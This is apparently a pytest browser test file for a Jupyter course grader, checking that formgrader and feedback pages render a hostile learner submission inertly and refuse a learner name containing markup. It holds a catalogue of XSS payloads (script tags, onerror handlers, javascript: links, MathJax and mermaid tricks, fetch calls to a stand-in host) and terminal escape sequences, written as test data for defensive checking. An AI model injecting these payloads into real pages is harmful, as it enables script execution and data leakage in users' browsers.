"""What people see, in a real Chromium on one real Jupyter server: an instructor in formgrader, a learner in JupyterLab."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from grader.course import load_course
from grader.mismatch import Mismatch
from grader.record import CheckResult, ExerciseResult
from grader.render.cell_output import CellOutput
from grader.render.verdict import verdict_on

pytestmark = [pytest.mark.thorough, pytest.mark.timeout(900)]

ROOT = Path(__file__).parents[2]
COURSE = load_course(ROOT / "course.yml")
UNIT = COURSE.units[0].folder
EXERCISES = COURSE.units[0].exercises
RIGHT = {exercise.id: COURSE.solution_path(exercise).read_text("utf-8") for exercise in EXERCISES}
DESK = {"width": 1280, "height": 900}

WHOLE_SUM = """\
import torch


def softmax(scores, dim=-1):
    my_powers = scores.exp()
    return my_powers / my_powers.sum()
"""

# --- a learner who tries to act on the reader's machine -----------------------------------------------------------

ACT = "window.pwned=1;document.title='pwned';alert(1);fetch('https://elsewhere.example/told')"
MARKUP = "".join(
    [
        f"<script>{ACT}</script>",
        f'<img src="https://elsewhere.example/picture" onerror="{ACT}">',
        f'<svg onload="{ACT}"><a href="javascript:{ACT}">x</a></svg>',
        '<iframe src="https://elsewhere.example/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>',
        '<style>* {display: none !important} body {background: url("https://elsewhere.example/style")}</style>',
        '<div style="position: fixed; inset: 0; z-index: 99999; background: white">all points</div>',
        '<link rel="stylesheet" href="https://elsewhere.example/sheet"><base href="https://elsewhere.example/">',
        '<meta http-equiv="refresh" content="0; url=https://elsewhere.example/gone">',
        "</pre></div></td></tr></table></textarea></title></script>",
    ]
)
TERMINAL = "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x1b[0m\b\x9b1m\u202eright to left\u2066"
MARKDOWN = f"""\
# A heading {MARKUP}

{MARKUP}

[a](javascript:{ACT}) [b][c] <javascript:{ACT}> ![d](https://elsewhere.example/image) [e](data:text/html,{ACT})
https://elsewhere.example/bare and http://127.0.0.1:8888/formgrader/manage_students/%22;{ACT}//

[c]: javascript:{ACT}

$\\href{{javascript:{ACT}}}{{x}}$ $\\style{{position:fixed}}{{x}}$ $\\mmlToken{{mi}}[href="javascript:{ACT}"]{{x}}$
$$\\require{{html}} \\unicode{{x3c}}script\\unicode{{x3e}} \\rule{{1000em}}{{1000em}}$$ {TERMINAL}

```mermaid
graph TD
A["<img src=x onerror={ACT}>"] --> B
click A "javascript:{ACT}"
```

```html" onmouseover="{ACT}
{MARKUP}
```
"""
HOSTILE_NAME = "<img src=x onerror=window.pwned=1>"


def hostile_code(id: str) -> str:
    return f"""\
# {TERMINAL} {MARKUP}
'''{MARKUP}'''


def {id}(*given, **named):
    r'''{MARKUP} $\\href{{javascript:{ACT}}}{{x}}$'''
    print({MARKUP!r}, {TERMINAL!r})
    raise type({MARKUP!r}, (ValueError,), {{}})({TERMINAL!r} + {MARKUP!r} + {MARKDOWN!r})


def \uff41lert():
    return {MARKUP!r}
"""


def hostile(released: dict[str, Any]) -> dict[str, Any]:
    """All of it, in the sources, outputs, metadata, attachments and ids of every kind of cell, and of some more."""
    output = {"text/html": MARKUP, "application/javascript": ACT, "image/svg+xml": MARKUP, "text/markdown": MARKDOWN}
    outputs = [
        {"output_type": "display_data", "metadata": {"isolated": True}, "data": output},
        {"output_type": "stream", "name": "stdout", "text": MARKUP + TERMINAL},
        {"output_type": "error", "ename": MARKUP, "evalue": MARKUP, "traceback": [MARKUP + TERMINAL]},
    ]
    notebook = json.loads(json.dumps(released))
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "code":
            cell["source"] = hostile_code(marks["grade_id"]) if marks.get("solution") else MARKUP
            cell["outputs"] = outputs
        else:
            cell["source"] = MARKDOWN
            cell["attachments"] = {MARKUP: {"text/html": MARKUP}}
        cell["metadata"].update(tags=[MARKUP], name=MARKUP, magics_language=MARKUP, slideshow={"slide_type": MARKUP})
    own = [
        {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN},
        {"cell_type": "raw", "metadata": {"format": "text/html", "raw_mimetype": "text/html"}, "source": MARKUP},
        {"cell_type": "code", "metadata": {}, "source": f"%%html\n{MARKUP}", "outputs": outputs, "execution_count": 1},
        {"cell_type": MARKUP, "metadata": {"nbgrader": {"grade_id": MARKUP, "grade": True}}, "source": MARKUP},
    ]
    notebook["cells"] = [{**cell, "id": f"{number}{MARKUP}"} for number, cell in enumerate(own + notebook["cells"])]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": MARKUP}}
    notebook["metadata"] = {
        "title": MARKUP,
        "widgets": widgets,
        "kernelspec": {"name": MARKUP, "display_name": MARKUP, "language": MARKUP},
        "language_info": {"name": MARKUP, "pygments_lexer": MARKUP, "codemirror_mode": MARKUP},
        "kata": {"absent": [], "problems": [[MARKUP, MARKUP, MARKUP, None]]},
    }
    return notebook


# --- the course folder and the server ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Screens:
    """The browser, signed in to a server whose folder is the course folder."""

    browser: Any
    folder: Any
    address: str
    token: str

    def press_autograde(self, student: str) -> str:
        """What formgrader says once the autograde button of this learner's row was pressed."""
        self.browser.show(f"{self.address}formgrader/manage_submissions/{UNIT}", **DESK)
        self.browser.run("arguments[0].querySelector('.autograde a').id = 'to-be-pressed'", self._row_of(student))
        self.browser.click("#to-be-pressed")
        return self.browser.until("return document.querySelector('.modal.in')?.innerText", seconds=300)

    def _row_of(self, student: str) -> Any:
        rows = "return [...document.querySelectorAll('#main-table tr')]"
        named = f"{rows}.find(row => row.querySelector('.student-id')?.innerText === arguments[0])"
        return self.browser.until(named, student)

    def open(self, screen: str, student: str) -> Any:
        """The browser with a learner's submission in formgrader, all fields filled, or with the learner's feedback."""
        if screen == "formgrader":
            with self.folder.book() as book:
                id = book.find_submission_notebook(UNIT, UNIT, student).id
            self.browser.show(f"{self.address}formgrader/submissions/{id}/", **DESK)
            self.browser.until("return document.getElementById('test-softmax')?.placeholder")
        else:
            self.browser.show(self.folder.root / "feedback" / student / UNIT / f"{UNIT}.html", **DESK)
            self.browser.run("document.querySelectorAll('details').forEach(each => { each.open = true })")
        return self.browser

    def elsewhere(self) -> set[str]:
        """The addresses that were asked for, but those of this server and files."""
        own = (self.address, "file:", "data:")
        return {address for address in self.browser.requests() if not address.startswith(own)}


@pytest.fixture(scope="module")
def folder(
    folder_at: Callable[[Path], Any],
    edit: Any,
    kata: Callable[..., subprocess.CompletedProcess[str]],
    tmp_path_factory: pytest.TempPathFactory,
) -> Any:
    """Ada, Ben and Eve are graded by command; Bob has handed in what Ben has, and one has a hostile name."""
    root = tmp_path_factory.mktemp("screens") / "course"
    made = kata("notebooks", root, "--unit", "1", "--reflection", cwd=ROOT)
    assert made.returncode == 0, made.stderr
    folder = folder_at(root)
    folder.nbgrader("generate_assignment", UNIT)
    released = folder.released(UNIT)
    partly = edit.filled(released, {**RIGHT, "softmax": WHOLE_SUM, "reflection": "A row of **weights** sums to one."})
    folder.hand_in("ada", UNIT, edit.filled(released, {**RIGHT, "reflection": "So $a < b$ keeps its order."}))
    folder.hand_in("ben", UNIT, partly)
    folder.hand_in("eve", UNIT, hostile(released))
    folder.nbgrader("autograde", UNIT)
    folder.nbgrader("generate_feedback", UNIT)
    folder.hand_in("bob", UNIT, partly)
    folder.hand_in(HOSTILE_NAME, UNIT, partly)
    return folder


@pytest.fixture(scope="module")
def screens(folder: Any, browser: Any) -> Iterator[Screens]:
    with folder.jupyter_server() as (address, token):
        browser.show(f"{address}formgrader/manage_assignments?token={token}", **DESK)
        browser.until("return document.querySelector('#main-table .name a')")
        yield Screens(browser, folder, address, token)


# --- an instructor in formgrader -----------------------------------------------------------------------------------

ROWS = """
return [...document.querySelectorAll('.kata-verdict table')].map(
    table => [...table.rows].map(row => [...row.cells].map(cell => cell.innerText.trim())))
"""
OUT_OF_VIEW = """
const isSeen = cell => {
    cell.scrollIntoView({block: 'center'});
    const {left, top, right, bottom} = cell.getBoundingClientRect();
    const on = document.elementFromPoint((left + right) / 2, (top + bottom) / 2);
    return left >= 0 && right <= document.documentElement.clientWidth && (cell === on || cell.contains(on));
};
return [...document.querySelectorAll('.kata-verdict td, .kata-verdict th')]
    .filter(cell => !isSeen(cell)).map(cell => cell.innerText)
"""


def test_autograde_button_gives_what_the_command_gives_and_formgrader_shows_it(screens: Screens) -> None:
    said = screens.press_autograde("bob")
    assert "Success" in said and "bob" in said
    scores = screens.folder.scores("bob", UNIT)
    assert scores == screens.folder.scores("ben", UNIT)
    page = screens.open("formgrader", "bob")
    text = page.run("return document.body.innerText")
    assert "my_powers / my_powers.sum()" in text and "Probably:" in text
    assert page.run("return document.getElementById('test-softmax').placeholder") == str(scores["test-softmax"])
    for exercise, (head, *rows) in zip(EXERCISES, page.run(ROWS), strict=True):
        assert head == ["check", "result", "points"]
        results = {row[1].partition(",")[0] for row in rows if len(row) == 3}
        assert results == ({"✓ passed", "✗ failed"} if exercise.id == "softmax" else {"✓ passed"})
        assert sum(float(row[2].split(" / ")[1]) for row in rows if len(row) == 3) == exercise.points
    assert [screens.open(screen, "ben").run(OUT_OF_VIEW) for screen in ("formgrader", "feedback")] == [[], []]


STATE = """
const all = [...document.querySelectorAll('*')];
const sorted = values => [...new Set(values)].sort();
return {
    pwned: window.pwned === undefined,
    title: document.title.includes('pwned'),
    tags: sorted(all.map(each => each.tagName).filter(
        name => ['IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'META', 'IMG', 'LINK', 'VIDEO', 'MATH'].includes(name))),
    scripts: all.filter(each => ['SCRIPT', 'STYLE', 'svg'].includes(each.tagName)).length,
    handlers: sorted(all.flatMap(each => [...each.attributes].map(a => a.name).filter(name => name.startsWith('on')))),
    covering: all.filter(each => ['fixed', 'sticky'].includes(getComputedStyle(each).position)).length,
    mermaid: document.querySelectorAll('.mermaid, .language-mermaid').length,
}
"""
LINKS = """
return [...document.querySelectorAll('[href], [src], [action], [background]')].map(
    each => each.getAttribute('href') || each.getAttribute('src') || each.getAttribute('action') || '')
"""


@pytest.mark.parametrize("screen", ["formgrader", "feedback"])
def test_nothing_of_a_hostile_submission_acts(screen: str, screens: Screens) -> None:
    page = screens.open(screen, "ada")
    usual, usual_links, usual_requests = page.run(STATE), page.run(LINKS), screens.elsewhere()
    page = screens.open(screen, "eve")
    assert page.run(STATE) == usual
    assert screens.elsewhere() == usual_requests
    own = ("#", "/notebooks/./autograded/eve/", "/formgrader/submissions/")
    assert [link for link in page.run(LINKS) if link not in usual_links and not link.startswith(own)] == []
    assert_is_there_to_be_read(page)
    codes = {name: points for name, points in screens.folder.scores("eve", UNIT).items() if name != "reflection"}
    assert codes == {f"test-{exercise.id}": 0 for exercise in EXERCISES}


def assert_is_there_to_be_read(page: Any) -> None:
    text = page.run("return document.body.innerText")
    assert "'''<script>window.pwned=1" in text  # in the code
    assert "< script>window.pwned=1" in text  # in the reflection
    messages = page.run("return [...document.querySelectorAll('.kata-verdict')].map(each => each.innerText)")
    assert len(messages) == len(EXERCISES)
    assert all("<script>window.pwned=1" in each for each in messages)
    assert all("\\x1b[2J" in each and "\\u202e" in each for each in messages)
    assert not {each for message in messages for each in message if ord(each) < 32 and each not in "\n\t"}


def test_hostile_name_is_shown_and_refused(screens: Screens) -> None:
    said = screens.press_autograde(HOSTILE_NAME)
    assert "Error" in said and "has characters in the learner's name that make trouble in pages" in said
    assert screens.browser.run("return window.pwned === undefined")
    assert not (screens.folder.root / "autograded" / HOSTILE_NAME).exists()


# --- a learner in JupyterLab ---------------------------------------------------------------------------------------

PLAYED = "cross_attention"
AT_WORK, EARLIER = "# at work", "# earlier"  # the verdict above names the command, too
CELL = "[...document.querySelectorAll('.jp-Notebook .jp-CodeCell')].find(cell => cell.innerText.includes(arguments[0]))"
PROMPT = f"return {CELL}?.querySelector('.jp-InputPrompt')?.innerText"
RAN = f"return /[0-9]/.test({CELL}?.querySelector('.jp-InputPrompt')?.innerText)"
VERDICT = f"return {CELL}?.querySelector('.jp-OutputArea-output .kata-verdict')?.innerText"
PICTURES = f"""
const outputs = [...({CELL}?.querySelectorAll('.jp-OutputArea-output') ?? [])];
const shown = outputs.flatMap(each => [...each.querySelectorAll('img')]).find(each => each.complete);
const said = outputs.map(each => each.innerText).join(' ');
return shown && said.includes(arguments[1]) && [shown.getBoundingClientRect().width, shown.alt, said]
"""
LOADED = """
const ready = '.jp-Notebook-ExecutionIndicator[data-status=idle]';
return document.querySelector('.jp-Notebook .jp-CodeCell') && document.querySelector(ready)
"""
SHIFT_ENTER = {"key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "modifiers": 8}
SECONDS = 120


def run_cell(browser: Any, text: str, script: str, *more: str) -> Any:
    """Click into the cell with this text and press Shift+Enter; return what comes of it, a script's value.

    A server that has just opened a notebook may lose the first requests: then the cell is as if never run.
    """
    end = time.monotonic() + SECONDS
    while not (came := browser.run(script, text, *more)):
        assert time.monotonic() < end, text
        if browser.run(PROMPT, text) == "[ ]:":
            browser.run(f"{CELL}.querySelector('.cm-content')?.focus()", text)
            for kind in ("rawKeyDown", "keyUp"):
                browser.tell("Input.dispatchKeyEvent", type=kind, **SHIFT_ENTER)
    return came


def earlier_verdict() -> dict[str, Any]:
    """The output of a check that no kernel here has given, so that JupyterLab does not trust it."""
    check = CheckResult(
        name="test_example", title="It fits.", outcome="failed", points=0.0, max_points=4.0, visible=True, message="No."
    )
    result = ExerciseResult(
        id="softmax", status="failed", points=0.0, max_points=4.0, checks=(check,), diagnosis=(), seconds=0.0
    )
    mismatch = Mismatch("The output", (), ((0.5, 0.5),), ((0.25, 0.5),), ((True, False),), "One number is off.")
    shown = verdict_on(result, title="Before", mismatches={("softmax", "test_example"): mismatch}, in_cell=True)
    verdict = CellOutput(shown, closing="Checked as it was run in [1].")
    data = {"text/plain": verdict.text(), "text/html": verdict.html()}
    return {"output_type": "display_data", "metadata": {}, "data": data}


def test_learner_sees_verdict_picture_and_the_answer_at_work(
    screens: Screens, kata: Callable[..., subprocess.CompletedProcess[str]], edit: Any
) -> None:
    mine = screens.folder.root / "mine"
    done = kata("init", mine, "--course", ROOT, cwd=screens.folder.root)
    assert done.returncode == 0, done.stderr
    released = screens.folder.released(UNIT)
    cross = (ROOT / "solutions" / "02_self_attention" / "09_cross_attention.py").read_text("utf-8")
    sources = (
        "%load_ext grader.in_notebook",
        WHOLE_SUM,
        "".join(edit.cell(released, "check-softmax")["source"]),
        cross,
        f"%kata {PLAYED}",
        f"{AT_WORK}\n%kata play {PLAYED}",
        EARLIER,
    )
    cells = [
        {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None, "id": f"c{n}"}
        for n, source in enumerate(sources)
    ]
    cells[-1]["outputs"] = [earlier_verdict()]
    (mine / "mine.ipynb").write_text(json.dumps({**released, "cells": cells}), "utf-8")
    browser = screens.browser
    browser.show(f"{screens.address}lab/tree/mine/mine.ipynb?reset&token={screens.token}", width=1280, height=1800)
    browser.until(LOADED, seconds=SECONDS)
    width, instead, _ = browser.until(PICTURES, EARLIER, "Before")
    assert width > 200 and "yours 0.50, expected 0.25" in instead
    for cell in ("%load_ext", "my_powers", "class CrossAttention"):
        run_cell(browser, cell, RAN)
    assert "failed: Turn scores into weights" in run_cell(browser, "kata.check", VERDICT)
    assert "passed" in run_cell(browser, f"%kata {PLAYED}", VERDICT)
    width, instead, said = run_cell(browser, AT_WORK, PICTURES, "As a page")
    assert width > 200 and "looks most at" in instead
    assert "3 may 2024 -> 2024-05-03" in said and "Your code passed its check." in said
